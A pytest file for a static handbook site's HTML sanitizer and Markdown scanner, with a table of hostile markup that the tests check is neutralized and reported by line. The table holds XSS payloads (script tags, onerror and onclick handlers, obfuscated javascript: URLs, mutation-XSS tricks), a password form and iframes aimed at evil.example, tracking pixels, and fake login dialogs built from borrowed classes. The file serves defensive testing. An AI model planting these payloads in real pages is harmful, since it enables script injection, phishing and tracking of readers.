"""Contributed Markdown never puts live code on a page, and `validate` tells the contributor what went, where.

One table of hostile markup drives three levels: the sanitizer on HTML, the source scanner on Markdown (with
line numbers), and a real build whose module page must come out clean.
"""

from __future__ import annotations

import json
import re

import pytest
from bs4 import BeautifulSoup, Tag
from click.testing import CliRunner

from cohandbook.cli.main import cli
from cohandbook.core.check.markup import scan, unsafe_url
from cohandbook.core.check.sanitize import allowed_class, foreign_url, sanitize
from conftest import GALLERY_IMAGES, Repo

# (Markdown a contributor might write, the kind of removal `validate` must report for it)
HOSTILE = [
    ("<script>alert(1)</script>", "script"),
    ('<img src="p0.jpg" onerror="alert(1)">', "handler"),
    ('## 标题 { onclick="alert(1)" }', "handler"),
    ('<a href="#" onmouseover="alert(1)">悬停</a>', "handler"),
    ("[点我](javascript:alert(1))", "url"),
    ('<a href="JaVaScRiPt:alert(1)">大小写</a>', "url"),
    ('<a href="java&#x09;script:alert(1)">藏了制表符</a>', "url"),
    ('<a href="vbscript:msgbox(1)">vb</a>', "url"),
    ("![图](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "url"),
    ('<iframe src="https://evil.example/"></iframe>', "iframe"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "iframe"),
    ('<svg onload="alert(1)"><circle r="4"/></svg>', "tag"),
    ("<style>body { display: none }</style>", "tag"),
    ('<form action="https://evil.example/"><input type="password" name="pw"></form>', "tag"),
    ('<object data="evil.swf"></object>', "tag"),
    ('<embed src="evil.swf">', "tag"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "tag"),
    ('<base href="https://evil.example/">', "tag"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "tag"),
    ('<p style="position: fixed; inset: 0">假的登录框</p>', "style"),
    ('<div id="__search">抢占搜索框的 id</div>', "id"),
    ("## 抢占配置 {#__config}", "id"),
    ('<label for="__drawer">打开侧栏</label>', "id"),
    ('<input type="text" name="q">', "attribute"),
    ('<a href="https://example.com/" target="_blank">新窗口</a>', "attribute"),
    ('<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">', "tag"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "tag"),
    ("[引用式链接][evil]\n\n[evil]: javascript:alert(1)", "url"),
    # Images from another host: the reader's visit reported elsewhere, the picture changeable after review.
    ('<img src="https://evil.example/t1.png">', "foreign"),
    ("![跟踪](https://evil.example/t2.png)", "foreign"),
    ("![跟踪][pixel]\n\n[pixel]: https://evil.example/t3.png", "foreign"),
    ("![pixel2]\n\n[pixel2]: //evil.example/t4.png", "foreign"),
    ('<img src="//evil.example/t5.png">', "foreign"),
    ('<img src="/\\evil.example/t6.png">', "foreign"),
    ('<img src=" &#x68;ttps://evil.example/t7.png">', "foreign"),
    ("![本地](p0.jpg){ src=https://evil.example/t8.png }", "foreign"),
    ('<img src="p0.jpg" srcset="https://evil.example/t9.png 2x">', "attribute"),
    ('<picture><source srcset="https://evil.example/t10.png"><img src="p0.jpg"></picture>', "tag"),
    ('<input type="image" src="https://evil.example/t11.png">', "attribute"),
    # Borrowed classes and ids: Material's dialog drawn over the page, our own header faked, globals clobbered.
    ("[登录已过期，请重新登录](https://evil.example/){: .md-dialog .md-dialog--active }", "class"),
    ('<div class="md-dialog md-dialog--active"><div class="md-dialog__inner">登录已过期</div></div>', "class"),
    ('<p class="ch-module-header__meta">假的署名</p>', "class"),
    ('<a href="https://evil.example/big.png" class="glightbox">看大图</a>', "class"),
    ('<p id="document$">抢占全局变量</p>', "id"),
    ("## 标题 {#location$}", "id"),
    # Old-style anchors become ids, so they pass the same rules (and keep no `name` to clobber a form).
    ('<a name="__search">抢占搜索框的锚点</a>', "id"),
    ('<a name="javascript:alert(1)">名字像脚本</a>', "id"),
    ('<a name="x&quot; onclick=&quot;alert(1)">藏了引号</a>', "id"),
    ('<a id="top" name="__drawer">两个都写</a>', "name"),
]

BENIGN = [
    '<div class="admonition tip"><p class="admonition-title">小贴士</p><p>先充电</p></div>',
    '<details class="note"><summary>更多</summary><p>细节</p></details>',
    '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
    '<input type="checkbox" checked=""><span class="task-list-indicator"></span></label> 胎压</li></ul>',
    '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="" id="__tabbed_1_1" '
    'name="__tabbed_1" type="radio"><div class="tabbed-labels"><label for="__tabbed_1_1">A</label></div></div>',
    '<p>正文<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup></p>',
    '<table><thead><tr><th style="text-align:right">续航</th></tr></thead></table>',
    '<p><img alt="前备厢" src="frunk.jpg" width="300" loading="lazy"></p>',
    '<h2 id="_1">磨合<a class="headerlink" href="#_1" title="Permanent link">¶</a></h2>',
]


def assert_inert(fragment: Tag | BeautifulSoup) -> None:
    """No element that runs code, loads foreign frames or clobbers Material's ids."""
    for name in ("script", "style", "iframe", "object", "embed", "form", "svg", "math", "meta", "base", "link"):
        assert fragment.find(name) is None, name
    for element in fragment.find_all(True):
        for attribute, value in element.attrs.items():
            assert not attribute.startswith("on"), (element.name, attribute)
            assert attribute != "style" or element.name in ("td", "th"), element
            if attribute in ("href", "src"):
                assert not unsafe_url(value), (element.name, value)
            if attribute in ("src", "srcset"):
                assert not foreign_url(value), (element.name, value)
            if attribute == "class" and element.name != "a":  # the lightbox plugin wraps images after us
                assert all(allowed_class(c) for c in value), (element.name, value)
            if attribute in ("id", "for", "name"):
                assert not value.startswith("__") or value.startswith("__tabbed_"), value
                assert re.fullmatch(r"[\w\-.:]+", value), value
        assert element.name != "a" or not element.has_attr("name"), element
        if element.name == "input":
            assert element.get("type") in ("checkbox", "radio"), element


@pytest.mark.parametrize(("markup", "kind"), HOSTILE)
def test_sanitizer_leaves_hostile_html_inert(markup: str, kind: str) -> None:
    assert_inert(BeautifulSoup(sanitize(markup), "html.parser"))


@pytest.mark.parametrize("markup", BENIGN)
def test_sanitizer_keeps_what_material_and_our_extensions_emit(markup: str) -> None:
    def normal(html: str) -> str:
        return str(BeautifulSoup(html, "html.parser"))

    kept = sanitize(markup).replace(' rel="noopener noreferrer nofollow"', "")
    assert normal(kept) == normal(markup)


def test_script_content_is_dropped_not_shown_as_text() -> None:
    assert sanitize("<script>alert(1)</script><p>ok</p>") == "<p>ok</p>"


def test_reserved_ids_are_renamed_not_dropped() -> None:
    """Renaming keeps a contributor's in-page link target working while freeing Material's id."""
    assert sanitize('<h2 id="__drawer">x</h2>') == '<h2 id="ch-__drawer">x</h2>'


# (an old-style anchor or a bare attribute, what the page gets): the reader's `#old-anchor` link reaches it
ANCHORS = [
    ('<a name="old-anchor"></a>', '<a id="old-anchor"></a>'),
    ('<a id="kept" name="dropped"></a>', '<a id="kept"></a>'),
    ('<a href="#x" name="x">自己</a>', '<a href="#x" id="x">自己</a>'),
    ('<a name="__search"></a>', '<a id="ch-__search"></a>'),
    ('<a name="油耗 表"></a>', '<a id="ch-油耗-表"></a>'),
    ("<a name></a><a id></a><p id>x</p>", "<a></a><a></a><p>x</p>"),
    ('<div hidden class="note">藏起来</div>', '<div hidden class="note">藏起来</div>'),
]


@pytest.mark.parametrize(("markup", "published"), ANCHORS)
def test_old_anchors_become_ids_and_bare_attributes_go(markup: str, published: str) -> None:
    def normal(html: str) -> str:
        return str(BeautifulSoup(html, "html.parser"))

    assert normal(sanitize(markup).replace(' rel="noopener noreferrer nofollow"', "")) == normal(published)


def test_scanner_says_nothing_of_anchors_that_are_used_and_attributes_that_mean_nothing() -> None:
    body = '<a name="old-anchor"></a>\n<a name></a>\n<a id></a>\n<p id>x</p>\n<div hidden>y</div>\n'
    assert scan(body + '<a id="same" name="same"></a>\n') == []


@pytest.mark.parametrize(("markup", "kind"), HOSTILE)
def test_scanner_reports_every_hostile_construct_with_its_line(markup: str, kind: str) -> None:
    body = "第一行是正常的文字。\n\n" + markup + "\n"
    removals = scan(body)
    assert kind in {r.kind for r in removals}, removals
    assert {r.line for r in removals} <= set(range(2, 2 + markup.count("\n") + 1))


def test_scanner_ignores_code_and_allowed_markup() -> None:
    body = (
        "在代码里写 `<script>` 没关系。\n\n"
        '```html\n<iframe src="https://evil.example/"></iframe>\n```\n\n'
        '<div markdown="1" class="grid">\n\n![前备厢](frunk.jpg){ width=300 loading=lazy }\n\n</div>\n\n'
        "访问 <https://example.com/> 或 [官网](https://example.com/)。\n\n"
        "| 左 | 右 |\n|:--|--:|\n| 1 | 2 |\n"
    )
    assert scan(body) == []


def hostile_repo(repo: Repo) -> Repo:
    # The checklist comes first: an unclosed hostile tag may swallow everything after it, as a browser would.
    body = "".join(f"- [ ] 第 {i} 项\n" for i in range(5)) + "\n" + "\n\n".join(markup for markup, _ in HOSTILE) + "\n"
    repo.handbook(
        "evil",
        title="不安全内容",
        chapters=[{"id": "c", "title": "章", "modules": [{"id": "m", "title": "清单", "format": "checklist"}]}],
    )
    front = {"status": "accepted", "contributors": ["li-na"], "claimed": "2026-11-01"}
    repo.module("evil", "m", front, body, p0__jpg=b"\xff\xd8\xff\xe0 jpeg")
    return repo


def test_built_module_page_carries_no_live_code(
    repo: Repo, caplog: pytest.LogCaptureFixture, expect_warnings: None
) -> None:
    site = hostile_repo(repo).build(strict=False)
    body = site.article("evil/m/").select_one(".ch-module__body")
    assert body is not None
    assert_inert(body)
    assert len(body.select("input[type=checkbox]")) >= 5  # the checklist itself survives
    warnings = [r.getMessage() for r in caplog.records if "[markup-removed]" in r.getMessage()]
    assert any("evil/modules/m/index.md:" in w and "<script>" in w for w in warnings)


def test_validate_warns_with_file_and_line(repo: Repo) -> None:
    hostile_repo(repo)
    result = CliRunner().invoke(
        cli, ["--root", str(repo.root), "validate", "--format", "json", "--today", "2026-11-22"]
    )
    findings = [f for f in json.loads(result.output) if f["code"] == "markup-removed"]
    assert all(f["level"] == "warning" for f in findings)
    lines = (repo.root / "handbooks/evil/modules/m/index.md").read_text(encoding="utf-8").splitlines()
    script = next(f for f in findings if "<script>" in f["message"])
    assert lines[script["line"] - 1] == "<script>alert(1)</script>"
    handler = next(f for f in findings if "onclick" in f["message"])
    assert "onclick" in lines[handler["line"] - 1]
    assert {f["file"] for f in findings} == {"handbooks/evil/modules/m/index.md"}
    # Removed markup is a warning (the page is already safe); a picture from another host is an error, since
    # the module would not show what its maker sees.
    errors = {f["code"] for f in json.loads(result.output) if f["level"] == "error"}
    assert errors == {"image-external"} and result.exit_code == 1
    external = [f for f in json.loads(result.output) if f["code"] == "image-external"]
    assert all("evil.example" in lines[f["line"] - 1] or "[pixel" in lines[f["line"] - 1] for f in external)


def test_alt_text_cannot_become_markup_in_the_lightbox(repo: Repo) -> None:
    """GLightbox shows data-description as HTML, so the caption must still be text after the browser decodes it."""
    alt = '<img src=x onerror="alert(1)"> 后备厢 & 前备厢'
    front = {"status": "accepted", "contributors": ["zhou-kai"], "claimed": "2026-11-01"}
    gallery = [{"file": f"p{i}.jpg", "alt": alt} for i in range(4)]
    repo.module("guide", "storage", {**front, "gallery": gallery}, "正文。\n", **GALLERY_IMAGES)
    article = repo.build().article("guide/storage/")
    link = article.select_one(".ch-gallery a.glightbox")
    assert "<" not in link["data-description"]  # as the browser reads the attribute
    assert BeautifulSoup(link["data-description"], "html.parser").get_text() == alt  # shown as the text it is
    assert article.select_one(".ch-gallery figcaption").get_text() == alt
    assert not article.select(".ch-gallery img[onerror]")
